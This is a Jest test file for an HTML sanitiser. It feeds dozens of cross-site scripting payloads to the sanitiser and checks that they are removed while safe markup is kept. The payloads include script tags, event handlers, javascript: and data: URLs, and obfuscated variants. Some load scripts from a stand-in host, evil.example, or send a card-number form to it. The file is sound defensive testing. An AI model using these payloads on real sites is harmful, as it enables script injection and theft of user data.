const { sanitise } = jest.requireActual<{ sanitise: (html: string) => string }>(
  '../../../kit/webpack/sanitised-html-loader.cjs',
)

function partsOf(html: string) {
  const page = new DOMParser().parseFromString(html, 'text/html')
  const elements = [...page.body.querySelectorAll('*')]
  return {
    tags: elements.map(({ tagName }) => tagName.toLowerCase()),
    attributes: elements.flatMap((element) => [...element.attributes].map(({ name, value }) => `${name}=${value}`)),
  }
}

describe('security: an HTML fragment that is built into a release', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<style>p{display:none}</style>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext></mtext><script>alert(1)</script></math>',
    '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<video src=x onerror=alert(1)></video>',
    '<details ontoggle=alert(1) open>x</details>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<!--<script>alert(1)</script>-->',
    '<h1>Another title</h1>',
  ])('loses the element in %s', (html) => {
    const { tags, attributes } = partsOf(sanitise(html))
    expect(tags.filter((tag) => tag !== 'p')).toEqual([])
    expect(attributes).toEqual([])
  })

  it.each([
    '<p onclick="alert(1)">x</p>',
    '<p ONMOUSEOVER=alert(1)>x</p>',
    '<p style="position:fixed">x</p>',
    '<p class="button" id="root">x</p>',
    '<p data-x=1 is=evil slot=x>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0a;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="http://example.com">x</a>',
    '<a target="_blank" onclick=alert(1)>x</a>',
    '<th onclick=alert(1) colspan=9>x</th>',
  ])('loses the attribute in %s', (html) => {
    expect(partsOf(sanitise(html)).attributes).toEqual([])
  })

  it.each([
    '<h2>Plan</h2><p>Avoid, <strong>prevent</strong>, <em>minimise</em>.</p>',
    '<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Said</blockquote>',
    '<table><caption>Numbers</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    '<p><a href="https://www.hse.gov.uk/">HSE</a> <a href="mailto:a@b.c">mail</a> <a href="tel:+44">phone</a></p>',
    '<p><a href="/courses?category=food">Food courses</a> Health &amp; Safety</p>',
  ])('keeps %s', (html) => {
    expect(sanitise(html)).toBe(html)
  })
})
